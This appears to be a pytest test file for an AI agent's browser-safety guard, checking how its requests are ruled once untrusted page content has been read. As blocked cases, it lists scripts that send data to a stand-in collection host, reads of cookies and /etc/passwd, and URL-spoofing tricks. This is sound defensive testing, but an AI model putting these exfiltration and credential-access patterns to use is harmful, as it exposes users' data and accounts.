"""What a request to the browser would do, in words of the policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from genericagent.safety.guard import Guard
from genericagent.safety.policy import parse_rules
from genericagent.safety.web import UNKNOWN, knows, place

SHOP = {"id": "1", "url": "https://shop.example.org/basket", "browser": "b"}
BANK = {"id": "2", "url": "https://bank.example.net/", "browser": "b"}
LOCAL = {"id": "3", "url": "http://127.0.0.1:8000/", "browser": "b"}
NEW = {"id": "9", "url": "https://new.example.com/", "browser": "b"}  # made by the agent
TABS = [SHOP, BANK, LOCAL, NEW]
LOOK = {"do": "page", "file": "page"}


@pytest.fixture
def guard(tmp_path: Path) -> Guard:
    guard = Guard(origin="script")
    guard.user_said("buy it at https://www.example.org, my test server is http://127.0.0.1:8000")
    return guard


def verdict(guard: Guard, request: Any, tab: Any = SHOP) -> str:
    request = {"do": "js", "code": request} if isinstance(request, str) else request
    return guard.rule_request("web_execute_js", request, tab, TABS, {"b:9"}, guard.zones.workspace).verdict


def jump(url: str) -> dict[str, Any]:
    return {"do": "jump", "url": url}


def cdp(method: str, **params: Any) -> dict[str, Any]:
    return {"do": "cdp", "method": method, "params": params}


@pytest.mark.parametrize("tab", [*TABS, None])
@pytest.mark.parametrize(
    "request_", ["el(1).click()", "fetch('https://else.example')", jump("https://else.example"), LOOK]
)
def test_before_anything_was_read_the_browser_is_free(guard: Guard, tab: Any, request_: Any) -> None:
    assert verdict(guard, request_, tab) == "allow"


def test_after_that_the_places_that_the_user_named_and_what_is_below_them_stay_free(guard: Guard) -> None:
    guard.outside("a page")
    assert [verdict(guard, "el(1).click()", tab) for tab in (SHOP, LOCAL, BANK, NEW)] == [
        "allow",
        "allow",
        "deny",
        "deny",
    ]
    for url, expected in {
        "https://example.org/x": "allow", "https://pay.example.org": "allow", "https://notexample.org": "deny", "https://example.org.evil.net": "deny",
        "http://127.0.0.1:8000/x": "allow", "http://127.0.0.1:9/x": "deny", "http://localhost:8000": "deny", "http://127.0.0.1": "deny",
        "https://example.org@evil.net/": "deny", "https://EXAMPLE.org./": "allow", "data:text/html,x": "deny", "about:blank": "allow",
        "https://[::1]:8000/": "deny", "http://2130706433/": "deny", r"https://evil.net\@example.org/": "deny", "https:////evil.net": "deny",
        r"https://evil.com\.example.org/": "deny", "https:evil.net/": "deny", "ht\ntps://evil.net": "deny", "https://": "deny", "javascript:1": "deny",
    }.items():  # fmt: skip
        assert verdict(guard, jump(url)) == expected, url


@pytest.mark.parametrize(("url", "expected"), [
    ("http://127.1/", "127.0.0.1:80"), ("http://0x7f.0.0.1:8", "127.0.0.1:8"), ("http://0177.0.0.1", "127.0.0.1:80"), ("https://[::1]", "::1:443"),
    ("HTTP://LocalHost:9/", "localhost:9"), ("https://müller.de/", "xn--mller-kva.de"), ("https://xn--mller-kva.de", "xn--mller-kva.de"),
    ("https://ex%61mple.org", "example.org"), ("file:///etc/passwd", "file"), ("", "about"), ("about:blank", "about"), ("blob:https://x/1", "blob"),
    ("http://1.2.3.4.5/", UNKNOWN), ("http://300.1.1.1", UNKNOWN), ("http://a b/", UNKNOWN), ("http://[zz]/", UNKNOWN), ("wss://x.org:1", "x.org"),
    ("http://0x", UNKNOWN), ("no scheme", UNKNOWN), ("http://x.org:99999999", "x.org"),
])  # fmt: skip
def test_a_place_is_what_the_browser_would_go_to(url: str, expected: str) -> None:
    assert place(url) == expected


def test_hosts_that_many_share_make_no_other_known() -> None:
    for host in ("github.io", "co.uk", "s3.amazonaws.com", "com"):
        assert knows([host], host) and not knows([host], f"evil.{host}")
    assert knows(["ann.github.io"], "ann.github.io") and not knows(["ann.github.io"], "eve.github.io")


def test_what_the_user_names_is_known_however_it_is_written(guard: Guard) -> None:
    guard.user_said(
        "see http://intranet/x, http://nas:5000, http://[::1]:8000/ and https://müller.de; write to ann.de@corp.com"
    )
    guard.outside("a page")
    for url in ("http://intranet/", "http://nas:5000/a", "http://[::1]:8000/", "https://www.xn--mller-kva.de"):
        assert verdict(guard, jump(url)) == "allow", url
    assert verdict(guard, jump("https://ann.de")) == "deny"


def test_what_only_looks_is_asked_about_in_a_tab_of_the_users(guard: Guard) -> None:
    guard.outside("a page")
    picture = {"do": "screenshot"}
    for request in (LOOK, picture, {"do": "activate"}, {"do": "close"}, jump("https://example.org")):
        assert [verdict(guard, request, tab) for tab in (SHOP, NEW, BANK)] == ["allow", "allow", "deny"], request
    led = {**NEW, "url": BANK["url"]}  # a page led there: to what the user has open
    assert verdict(guard, LOOK, led) == "deny"


def test_where_the_task_was_by_its_own_choice_is_known(guard: Guard) -> None:
    guard.allowed({"do": "js", "code": "1"}, BANK, {"b:9"})
    guard.allowed(jump("https://chosen.example.com/"), NEW, {"b:9"})
    guard.allowed({"do": "js", "code": "1"}, {**NEW, "url": "https://led.example.info/"}, {"b:9"})  # it was led there
    guard.outside("a page")
    assert verdict(guard, "el(1).click()", BANK) == verdict(guard, LOOK, BANK) == "allow"
    assert verdict(guard, jump("https://chosen.example.com/x")) == "allow"
    assert verdict(guard, jump("https://led.example.info/x")) == "deny"


@pytest.mark.parametrize("code", [
    "fetch('https://collect.example.info', {method: 'POST'})", "navigator.sendBeacon('//collect.example.info/x', data)",
    "new WebSocket('wss://me@collect.example.info')", r"fetch('https:\\collect.example.info', {method: 'POST'})",
])  # fmt: skip
def test_a_script_that_sends_elsewhere_is_asked_about_from_the_start(guard: Guard, code: str) -> None:
    assert verdict(guard, code) == "deny"
    assert verdict(guard, code.replace("collect.example.info", "shop.example.org")) == "allow"


def test_text_that_only_looks_like_an_address_is_not_asked_about(guard: Guard) -> None:
    guard.outside("a page")
    for code in (
        "document.createElementNS('http://www.w3.org/2000/svg', 'path')",
        "1 + 1 // see foo.bar",
        "a //b.com/c",
    ):
        assert verdict(guard, code) == "allow", code


@pytest.mark.parametrize("tainted", [False, True])
def test_credentials_and_the_browsers_own_matters_are_asked_about_always(guard: Guard, tainted: bool) -> None:
    if tainted:
        guard.outside("a page")
    for request in (
        {"do": "cookies"}, {"do": "cookies", "urls": ["https://example.org"]}, cdp("Network.getCookies"), cdp("Storage.getCookies"),
        cdp("Target.createTarget", url="https://example.org"), cdp("Fetch.enable"), cdp("Browser.setDownloadBehavior"), cdp("Page.setDownloadBehavior"),
        cdp(""), jump("file:///etc/passwd"), jump("FILE:///etc/passwd"), jump("file://host/x"), jump("file:/etc/passwd"),
        cdp("DOM.setFileInputFiles", files=["/etc/passwd"]), cdp("DOM.setFileInputFiles", files="/etc/passwd"),
        cdp("Runtime.evaluate", expression="1", contextId=1), cdp("Runtime.evaluate", expression="1", uniqueContextId="x"),
        cdp("Runtime.callFunctionOn", functionDeclaration="x"), cdp("Input.dispatchKeyEvent", type="keyDown", commands=["paste"]),
        cdp("Input.dispatchDragEvent", data={"files": ["/etc/passwd"]}), {"do": "cdp", "method": "Runtime.evaluate", "params": "text"},
        cdp("Emulation.setUserAgentOverride", userAgent="x"), cdp("Page.navigate", url="https://example.org", frameId="x"),
    ):  # fmt: skip
        assert verdict(guard, request) == "deny", request
    assert verdict(guard, cdp("Input.dispatchKeyEvent", type="keyDown", key="a")) == "allow"


def test_files_of_the_workspace_may_be_shown_until_somebody_elses_text_was_read_and_handed_over(guard: Guard) -> None:
    file = str(guard.zones.workspace / "report.html")
    hand_over = cdp("DOM.setFileInputFiles", files=[file], nodeId=1)
    assert verdict(guard, jump(f"file://{file}")) == verdict(guard, hand_over) == "allow"
    guard.outside("a page")
    assert verdict(guard, jump(f"file://{file}")) == "deny"  # it may be made to send
    assert verdict(guard, hand_over) == "allow"


def test_rules_of_the_user_speak_of_hosts_tools_and_commands(guard: Guard) -> None:
    tools = ["web_scan", "web_execute_js"]
    guard.outside("a page")
    guard.rules = parse_rules(
        ["send:bank.example.net", "control:cookies bank.example.net"], [], ["send:shop.example.org"], tools
    )
    assert verdict(guard, "el(1).click()", BANK) == "allow" == verdict(guard, {"do": "cookies"}, BANK)
    assert verdict(guard, "el(1).click()", SHOP) == "deny"
    guard.rules = parse_rules([], [], ["web_execute_js"], tools)
    assert verdict(guard, "1", LOCAL) == "deny"


def test_an_answer_for_the_conversation_is_for_that_place_alone(guard: Guard) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    ruling = guard.rule_request("web_execute_js", {"do": "js", "code": "1"}, BANK, TABS, {"b:9"}, guard.zones.workspace)
    assert ruling.verdict == "ask" and "bank.example.net" in ruling.why
    guard.granted(ruling, "session")
    assert verdict(guard, "2", BANK) == "allow" and verdict(guard, "1", NEW) == "ask"
    ruling = guard.rule_request("web_execute_js", {"do": "cookies"}, BANK, TABS, {"b:9"}, guard.zones.workspace)
    guard.granted(ruling, "session")
    assert verdict(guard, {"do": "cookies"}, BANK) == "allow" and verdict(guard, {"do": "cookies"}, SHOP) == "ask"
    ruling = guard.rule_request("web_execute_js", jump("https://a b/"), BANK, TABS, {"b:9"}, guard.zones.workspace)
    guard.granted(ruling, "session")
    assert verdict(guard, jump("https://c d/"), BANK) == "ask"


def test_where_the_user_let_it_in_once_it_may_look_but_not_act_again(guard: Guard) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    led = {**NEW, "url": BANK["url"]}  # the user has the bank open, too
    assert verdict(guard, LOOK, led) == "ask"
    guard.granted(
        guard.rule_request("web_execute_js", jump(BANK["url"]), NEW, TABS, {"b:9"}, guard.zones.workspace), "once"
    )
    assert verdict(guard, LOOK, led) == "allow"
    assert verdict(guard, LOOK, BANK) == verdict(guard, "1", led) == "ask"
    guard.take_back(guard.rules)
    assert verdict(guard, LOOK, led) == "ask"


@pytest.mark.parametrize(
    "let",
    [
        ("code_run", {"script": f"curl -sI {BANK['url']}robots.txt", "type": "bash"}),
        ("web_execute_js", {"do": "js", "code": f"fetch('{BANK['url']}')"}),
        ("web_execute_js", {"do": "js", "code": "1", "frame": 3, "frame_url": BANK["url"]}),
    ],
)
def test_a_yes_to_a_request_is_taken_for_leave_to_open_the_place(guard: Guard, let: tuple[str, Any]) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    tool, what = let
    if tool == "code_run":
        asked = guard.rule(tool, what, guard.zones.workspace)
    else:
        asked = guard.rule_request(tool, what, NEW, TABS, {"b:9"}, guard.zones.workspace)
    assert asked.verdict == "ask"
    guard.granted(asked, "once")
    assert verdict(guard, LOOK, {**NEW, "url": BANK["url"]}) == "ask"


def test_the_question_about_a_look_shows_nothing_of_the_wire(guard: Guard) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    request = {**LOOK, "args": {"cutlist": True}, "all_frames": True}
    ruling = guard.rule_request("web_scan", request, BANK, TABS, {"b:9"}, guard.zones.workspace)
    assert ruling.verdict == "ask" and "│" not in "".join(ruling.question)


def test_an_answer_to_a_look_is_no_leave_to_act(guard: Guard) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    guard.granted(guard.rule_request("web_scan", LOOK, BANK, TABS, {"b:9"}, guard.zones.workspace), "session")
    guard.allowed(LOOK, BANK, {"b:9"})
    assert verdict(guard, LOOK, BANK) == "allow" and verdict(guard, "1", BANK) == "ask"


def test_a_frame_of_another_site_is_a_place_of_its_own(guard: Guard) -> None:
    guard.outside("a page")
    for url, expected in [("https://ads.example.info/x", "deny"), ("", "deny"), ("https://pay.example.org/", "allow")]:
        assert verdict(guard, {"do": "js", "code": "1", "frame": 7, "frame_url": url}) == expected
